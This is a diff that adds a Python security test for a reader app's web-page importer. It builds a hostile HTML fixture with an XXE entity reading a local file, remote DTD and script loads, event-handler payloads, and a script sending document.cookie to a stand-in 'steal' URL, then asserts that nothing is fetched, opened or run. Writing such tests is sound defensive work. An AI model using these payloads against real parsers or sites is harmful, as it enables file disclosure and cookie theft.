@@ -172,3 +172,44 @@ def test_the_window_shows_hostile_markup_as_text_and_fetches_nothing(tmp_path):
     assert not watch.opened, "the window opened a file named inside the article or its file name"
     assert str(secret) not in events["opened"] and secret.name not in events["opened"]
     assert events["network"] == [] and events["programs"] == []
+
+
+HOSTILE_PAGE = """<?xml version="1.0"?>
+<!DOCTYPE html [<!ENTITY secret SYSTEM "file://{secret}"><!ENTITY % remote SYSTEM "http://example.invalid/x.dtd"> %remote;]>
+<html><head><title>外链测试页_示例网</title><base href="http://example.invalid/">
+<link rel="stylesheet" href="{secret}"><link rel="preload" href="http://example.invalid/font.woff">
+<meta http-equiv="refresh" content="0; url=http://example.invalid/">
+<script src="http://example.invalid/x.js"></script><script>document.title = "脚本运行了";</script>
+<style>@import url("{secret}"); body {{ background: url(http://example.invalid/bg.png) }}</style></head>
+<body onload="fetch('http://example.invalid/onload')"><h1>外链测试页</h1>
+<div class="content">
+<p>第一段有<a href="javascript:alert(1)">一个脚本链接</a>，还有一张图片<img src="{secret}" onerror="alert(2)">，读者只看到文字。</p>
+<iframe src="{secret}"></iframe><object data="http://example.invalid/o.swf"></object>
+<p>第二段引用了实体&secret;，也嵌了<embed src="http://example.invalid/e.swf">插件，这些都不会被加载或运行。</p>
+<p>第三段是最后一段，<video src="http://example.invalid/v.mp4" poster="{secret}"></video>到此结束，文章完整。</p>
+<script>fetch("http://example.invalid/steal?" + document.cookie)</script>
+</div></body></html>
+"""
+
+IMPORT_PAGE = """
+from reader.core.importer import load_article
+from reader.core.importer.webpage import assemble, blocks, chrome, decode, meta, mhtml, scoring, tree  # loaded lazily
+sys.addaudithook(hook)
+article = load_article({page!r})
+result = {{"title": article.title, "texts": [p.text for p in article.paragraphs()]}}
+"""
+
+
+def test_importing_a_hostile_web_page_fetches_opens_and_runs_nothing(tmp_path):
+    secret = tmp_path / "secret.png"
+    secret.write_bytes(b"\x89PNG\r\n\x1a\n private")
+    page = tmp_path / "hostile.html"
+    page.write_text(HOSTILE_PAGE.format(secret=secret), encoding="utf-8")
+    run = audited(IMPORT_PAGE.format(page=str(page)), tmp_path)
+    events, result = run["events"], run["result"]
+    assert events["opened"] == [str(page)]
+    assert events["network"] == [] and events["programs"] == []
+    assert result["title"] == "外链测试页"
+    assert result["texts"][0] == "第一段有一个脚本链接，还有一张图片，读者只看到文字。"
+    assert result["texts"][-1] == "第三段是最后一段，到此结束，文章完整。"
+    assert not [t for t in result["texts"] if "fetch" in t or "alert" in t or "private" in t or "脚本运行了" in t]
